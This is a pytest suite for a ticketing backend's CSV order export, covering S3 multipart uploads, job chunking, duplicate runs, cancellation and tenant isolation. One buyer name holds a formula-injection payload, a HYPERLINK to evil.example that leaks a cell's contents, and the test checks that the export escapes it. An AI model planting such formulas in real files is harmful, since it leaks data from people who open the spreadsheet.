"""Exporting the orders list as CSV, as a job through the real jobs queue, into moto's S3 with a
multipart upload spanning chunks: the part size is lowered to moto's lowered minimum (which
moto enforces on every part but the last, as S3 does for 5 MiB) so that some sixty orders make
several parts and several chunks. The file is fetched through the presigned URL and read as
Excel in French reads it (UTF-8 with BOM, ``;``)."""
from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import datetime, timezone

import pytest
import requests

from chalicelib.adapters import clock
from chalicelib.adapters.aws import client as aws_client
from chalicelib.config import settings
from chalicelib.models.jobs import Job
from chalicelib.services.jobs import csv_files
from chalicelib.services.jobs import framework as jobs
from chalicelib.services.jobs.framework import ChunkBudget
from chalicelib.services.orders import export as order_export
from chalicelib.services.orders import orders
from tests.api.helpers import assert_problem, call
from tests.conftest import S3_PART_MIN_SIZE
from tests.job_helpers import drive, run_round, run_until, stored
from tests.orders_world import build_world, draft, line

PLACED_AT = datetime(2026, 11, 22, 13, 5, tzinfo=timezone.utc)  # 14:05 in Paris (UTC+1 in November)
HEADER = ["N° de commande", "Date", "Client", "E-mail", "Statut", "Type de paiement", "Code promo", "Montant",
          "Devise", "Billets", "Type", "Date limite"]
TRAP = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'



@pytest.fixture
def small_parts(monkeypatch):
    """Parts of 1 KiB (moto's minimum in this run) and two parts per chunk."""
    monkeypatch.setattr(csv_files, "PART_SIZE", S3_PART_MIN_SIZE)
    jobs.kind_named(order_export.EXPORT_CSV)
    monkeypatch.setitem(jobs.KINDS, order_export.EXPORT_CSV,
                        replace(jobs.KINDS[order_export.EXPORT_CSV], max_items=2))


@pytest.fixture
def placed_at_a_known_time():
    clock.set_clock(clock.frozen_at(PLACED_AT))
    yield
    clock.set_clock(None)


def place(actor, world, count: int, **buyer) -> list:
    return [orders.place_order(actor, draft(world, line(world), line(world, world.reduced), buyer={
        "first_name": buyer.get("first_name", f"Prénom{n}"), "last_name": buyer.get("last_name", f"Spectateur {n}"),
        "email": f"s{n}@exemple.fr"}))[0] for n in range(count)]


def object_key(tenant_id: str, job: dict) -> str:
    return csv_files.object_key(tenant_id, job["id"], job["params"]["file_name"])


def fetch(client, headers, job_id: str) -> tuple[dict, bytes, dict]:
    status, answer, _ = call(client, "GET", f"/jobs/{job_id}/download", headers)
    assert status == 200, answer
    response = requests.get(answer["url"], timeout=10)
    assert response.status_code == 200, response.text
    return answer, response.content, response.headers


def as_excel_reads_it(content: bytes) -> list[list[str]]:
    """Excel in French: UTF-8 when the file starts with a BOM, ``;`` between cells."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def open_uploads(key: str) -> list:
    answer = aws_client("s3").list_multipart_uploads(Bucket=settings.exports_bucket, Prefix=key)
    return answer.get("Uploads", [])


def test_export_of_every_matching_order_in_several_parts_and_chunks(client, staff_headers, actor, pump, small_parts,
                                                                     placed_at_a_known_time):
    world = build_world(actor, capacity=300)
    placed = place(actor, world, 57)
    placed.append(orders.place_order(actor, draft(world, line(world), line(world, world.reduced), buyer={
        "first_name": "Élodie", "last_name": "Lefèvre-Œuvray", "email": "elodie@exemple.fr"}))[0])
    placed.append(orders.place_order(actor, draft(world, line(world), line(world, world.reduced), buyer={
        "last_name": TRAP, "email": "piege@exemple.fr"}))[0])
    option = orders.place_order(actor, draft(world, line(world), kind="option", payment_type="cheque",
                                             deadline=datetime(2026, 12, 1, 9, 30, tzinfo=timezone.utc)))[0]
    placed.append(option)
    other, _ = orders.place_order(actor, draft(world, line(world, world.other_tariff, world.other_performance)))
    clock.set_clock(None)

    status, job, _ = call(client, "POST", "/orders/export", staff_headers, {"filters": {"product_id": world.show.id}})
    assert status == 202, job
    assert job["kind"] == "orders.export_csv" and job["status"] == "queued"
    assert job["params"]["file_name"].startswith("commandes-") and job["params"]["file_name"].endswith(".csv")
    assert_problem(call(client, "GET", f"/jobs/{job['id']}/download", staff_headers), 409)

    running = run_until(pump, actor.tenant_id, job["id"], lambda current: current.status == "running")
    assert_problem(call(client, "GET", f"/jobs/{job['id']}/download", staff_headers), 409)
    assert len(running.cursor["etags"]) == 2 * csv_files.ETAG_CHARS  # two parts per chunk, ETags compact

    finished = drive(pump, actor.tenant_id, job["id"])
    assert finished.status == "succeeded", finished.last_error
    assert (finished.done, finished.skipped, finished.failed, finished.total) == (60, 0, 0, 60)
    assert finished.chunk_seq >= 3, "several chunks"
    head = aws_client("s3").head_object(Bucket=settings.exports_bucket, Key=object_key(actor.tenant_id, job))
    assert int(head["ETag"].strip('"').rsplit("-", 1)[1]) >= 5, "several parts"

    answer, content, headers = fetch(client, staff_headers, job["id"])
    assert answer["rows"] == 60 and answer["file_name"] == job["params"]["file_name"]
    assert answer["url"].startswith(settings.aws_endpoint) and "X-Amz-Signature" in answer["url"]
    assert "X-Amz-Expires=900" in answer["url"]
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"] == f'attachment; filename="{job["params"]["file_name"]}"'

    assert content.startswith(b"\xef\xbb\xbf") and content.count(b"\xef\xbb\xbf") == 1, "one BOM, at the start"
    assert content.count(b"\n") == content.count(b"\r\n"), "CRLF line ends"
    assert content.split(b"\r\n")[0].decode("utf-8-sig") == ";".join(HEADER)

    table = as_excel_reads_it(content)
    assert table[0] == HEADER
    rows = table[1:]
    assert len(rows) == 60 and all(len(cells) == len(HEADER) for cells in rows)
    by_number = {int(cells[0]): dict(zip(HEADER, cells)) for cells in rows}
    assert set(by_number) == {int(order.number) for order in placed}, "each matching order once, no other"
    assert int(other.number) not in by_number

    sale = by_number[int(placed[0].number)]
    assert sale == {"N° de commande": str(placed[0].number), "Date": "22/11/2026 14:05", "Client": "Prénom0 Spectateur 0",
                    "E-mail": "s0@exemple.fr", "Statut": "Complète", "Type de paiement": "Espèces", "Code promo": "",
                    "Montant": "53,00", "Devise": "EUR", "Billets": "2", "Type": "vente", "Date limite": ""}
    assert by_number[int(placed[57].number)]["Client"] == "Élodie Lefèvre-Œuvray"
    assert "Élodie Lefèvre-Œuvray".encode("utf-8") in content
    assert by_number[int(placed[58].number)]["Client"] == "'" + TRAP
    held = by_number[int(option.number)]
    assert (held["Type"], held["Statut"], held["Type de paiement"], held["Montant"], held["Date limite"]) == (
        "option", "Non payée", "Chèque", "32,00", "01/12/2026 10:30")
    assert open_uploads(object_key(actor.tenant_id, job)) == []


def test_export_of_selected_orders_in_their_order(client, staff_headers, actor, pump, signer):
    world = build_world(actor)
    chosen = place(actor, world, 3)
    missing = "01ARZ3NDEKTSV4RRFFQ69G5FAV"
    selection = [chosen[2].id, missing, chosen[0].id, chosen[1].id, chosen[0].id]

    status, job, _ = call(client, "POST", "/orders/export", staff_headers, {"order_ids": selection})
    assert status == 202, job
    assert job["params"]["order_ids"] == [chosen[2].id, missing, chosen[0].id, chosen[1].id]
    finished = drive(pump, actor.tenant_id, job["id"])
    assert finished.status == "succeeded", finished.last_error
    assert (finished.done, finished.skipped, finished.total) == (3, 1, 4)

    answer, content, _ = fetch(client, staff_headers, job["id"])
    assert answer["rows"] == 3
    table = as_excel_reads_it(content)
    assert table[0] == HEADER
    assert [cells[0] for cells in table[1:]] == [str(chosen[n].number) for n in (2, 0, 1)]

    from tests.conftest import new_tenant_id

    other_tenant = {"Authorization": f"Bearer {signer.mint(new_tenant_id(), ['staff'], 'intruder')}"}
    assert_problem(call(client, "GET", f"/jobs/{job['id']}/download", other_tenant), 404)


def test_a_job_that_is_not_an_export_has_no_download(client, staff_headers, actor, pump):
    world = build_world(actor)
    placed = place(actor, world, 1)
    _, job, _ = call(client, "POST", "/orders/resend-confirmations", staff_headers, {"order_ids": [placed[0].id]})
    drive(pump, actor.tenant_id, job["id"])
    assert_problem(call(client, "GET", f"/jobs/{job['id']}/download", staff_headers), 404)
    assert_problem(call(client, "GET", "/jobs/not-an-id/download", staff_headers), 404)


def test_an_export_request_must_say_what_it_selects(client, staff_headers, actor):
    assert_problem(call(client, "POST", "/orders/export", staff_headers, {}), 422)
    assert_problem(call(client, "POST", "/orders/export", staff_headers, {"order_ids": [], "filters": {}}), 422)
    assert_problem(call(client, "POST", "/orders/export", staff_headers,
                        {"filters": {"product_id": "01ARZ3NDEKTSV4RRFFQ69G5FAV"}}), 422, "product_id")
    assert_problem(call(client, "POST", "/orders/export", staff_headers,
                        {"order_ids": ["01ARZ3NDEKTSV4RRFFQ69G5FAV"] * 501}), 422, "order_ids")


def _uncounted_run(actor, job: Job) -> None:
    """What a duplicate delivery of the job's current chunk does while the counted one runs:
    the kind runs from the same cursor, and its outcome is never recorded."""
    budget = ChunkBudget(job_id=job.id, seq=int(job.chunk_seq), max_items=2, seconds=60)
    jobs.kind_named(order_export.EXPORT_CSV).run_chunk(actor, dict(job.params), job.cursor, budget)


def test_duplicate_chunk_runs_do_not_duplicate_rows(client, staff_headers, actor, pump, small_parts):
    from chalicelib.adapters import queue
    from chalicelib.services.jobs.framework import chunk_message

    world = build_world(actor, capacity=200)
    placed = place(actor, world, 60)
    _, started, _ = call(client, "POST", "/orders/export", staff_headers, {"filters": {"product_id": world.show.id}})
    job = run_until(pump, actor.tenant_id, started["id"], lambda current: current.status == "running")

    _uncounted_run(actor, job)  # lands before the counted run of the same chunk...
    queue.send(settings.jobs_queue, chunk_message(job, int(job.chunk_seq)))  # ...and a duplicated message
    while stored(actor.tenant_id, job.id).chunk_seq == job.chunk_seq:
        assert run_round(pump), "the chunk was never run"
    _uncounted_run(actor, job)  # lands after the counted run: same part numbers, same rows

    finished = drive(pump, actor.tenant_id, job.id)
    assert finished.status == "succeeded", finished.last_error
    assert finished.done == 60
    _, content, _ = fetch(client, staff_headers, job.id)
    numbers = [int(cells[0]) for cells in as_excel_reads_it(content)[1:]]
    assert sorted(numbers) == sorted(int(order.number) for order in placed), "every order once"


def test_a_part_rewritten_with_other_rows_fails_the_export_instead_of_mixing(client, staff_headers, actor, pump,
                                                                             small_parts):
    world = build_world(actor, capacity=200)
    placed = place(actor, world, 60)
    _, started, _ = call(client, "POST", "/orders/export", staff_headers, {"filters": {"product_id": world.show.id}})
    job = run_until(pump, actor.tenant_id, started["id"], lambda current: current.status == "running")
    while stored(actor.tenant_id, job.id).chunk_seq == job.chunk_seq:
        run_round(pump)
    # The orders change, then an uncounted run of the chunk just recorded lands last.
    for order in placed:
        orders.edit_buyer(actor, order.id, {"last_name": "Renommé"})
    _uncounted_run(actor, job)

    finished = drive(pump, actor.tenant_id, job.id)
    assert finished.status == "failed" and "start the export again" in finished.last_error
    assert open_uploads(csv_files.object_key(actor.tenant_id, job.id, job.params["file_name"])) == []
    assert_problem(call(client, "GET", f"/jobs/{job.id}/download", staff_headers), 409)


def test_a_cancelled_export_aborts_its_upload(client, staff_headers, actor, pump, small_parts):
    world = build_world(actor, capacity=200)
    place(actor, world, 40)
    _, started, _ = call(client, "POST", "/orders/export", staff_headers, {"filters": {"product_id": world.show.id}})
    job = run_until(pump, actor.tenant_id, started["id"], lambda current: current.status == "running")
    key = csv_files.object_key(actor.tenant_id, job.id, job.params["file_name"])
    assert [upload["UploadId"] for upload in open_uploads(key)] == [job.cursor["upload_id"]]

    status, cancelled, _ = call(client, "POST", f"/jobs/{job.id}/cancel", staff_headers, {"reason": "wrong filters"})
    assert status == 200 and cancelled["status"] == "cancelled"
    assert open_uploads(key) == []
    drive(pump, actor.tenant_id, job.id)
    assert_problem(call(client, "GET", f"/jobs/{job.id}/download", staff_headers), 409)


def test_an_expired_export_answers_gone(client, staff_headers, actor, pump):
    world = build_world(actor)
    chosen = place(actor, world, 1)
    _, job, _ = call(client, "POST", "/orders/export", staff_headers, {"order_ids": [chosen[0].id]})
    finished = drive(pump, actor.tenant_id, job["id"])
    clock.set_clock(clock.frozen_at(finished.finished_at + csv_files.RETENTION))
    try:
        assert_problem(call(client, "GET", f"/jobs/{job['id']}/download", staff_headers), 410)
    finally:
        clock.set_clock(None)


@pytest.fixture
def time_always_up(monkeypatch):
    """Every chunk's time is up after its first read: it pauses before its second Query (or
    BatchGetItem), in the middle of a part, as with filters matching few of many entries."""
    monkeypatch.setattr(ChunkBudget, "seconds_left", property(lambda self: 0.0))


def test_a_chunk_out_of_time_mid_part_keeps_its_rows_for_the_next(client, staff_headers, actor, pump, small_parts,
                                                                   time_always_up, monkeypatch):
    monkeypatch.setattr(order_export, "PAGE", 7)
    world = build_world(actor, capacity=100)
    placed = place(actor, world, 30)
    _, job, _ = call(client, "POST", "/orders/export", staff_headers, {"filters": {"product_id": world.show.id}})
    paused = run_until(pump, actor.tenant_id, job["id"], lambda current: current.status == "running")
    assert paused.cursor["etags"] == "" and paused.cursor["pending"][0] == 0 and paused.done == 7

    finished = drive(pump, actor.tenant_id, job["id"])
    assert finished.status == "succeeded", finished.last_error
    assert finished.done == 30 and finished.chunk_seq > 4
    _, content, _ = fetch(client, staff_headers, job["id"])
    assert content.count(b"\xef\xbb\xbf") == 1 and content.startswith(b"\xef\xbb\xbf")
    table = as_excel_reads_it(content)
    assert table[0] == HEADER
    newest_first = sorted(placed, key=lambda order: (order.created_at, order.id), reverse=True)
    assert [cells[0] for cells in table[1:]] == [str(order.number) for order in newest_first]


def test_selected_orders_out_of_time_mid_part(client, staff_headers, actor, pump, time_always_up, monkeypatch):
    monkeypatch.setattr(order_export, "BATCH", 1)
    world = build_world(actor)
    chosen = place(actor, world, 3)
    _, job, _ = call(client, "POST", "/orders/export", staff_headers, {"order_ids": [o.id for o in chosen]})
    finished = drive(pump, actor.tenant_id, job["id"])
    assert finished.status == "succeeded", finished.last_error
    assert finished.done == 3 and finished.chunk_seq == 3
    _, content, _ = fetch(client, staff_headers, job["id"])
    assert [cells[0] for cells in as_excel_reads_it(content)[1:]] == [str(order.number) for order in chosen]


def test_a_pending_start_rewritten_with_other_rows_fails_the_export(client, staff_headers, actor, pump,
                                                                    time_always_up, monkeypatch):
    from chalicelib.adapters import storage

    monkeypatch.setattr(order_export, "BATCH", 1)
    world = build_world(actor)
    chosen = place(actor, world, 3)
    _, started, _ = call(client, "POST", "/orders/export", staff_headers, {"order_ids": [o.id for o in chosen]})
    job = run_until(pump, actor.tenant_id, started["id"], lambda current: current.status == "running")
    key = csv_files.object_key(actor.tenant_id, job.id, job.params["file_name"])
    seq = job.cursor["pending"][0]
    storage.put_object(settings.exports_bucket, csv_files.pending_key(key, seq), b"other rows\r\n")

    finished = drive(pump, actor.tenant_id, job.id)
    assert finished.status == "failed" and "start the export again" in finished.last_error
    assert open_uploads(key) == []
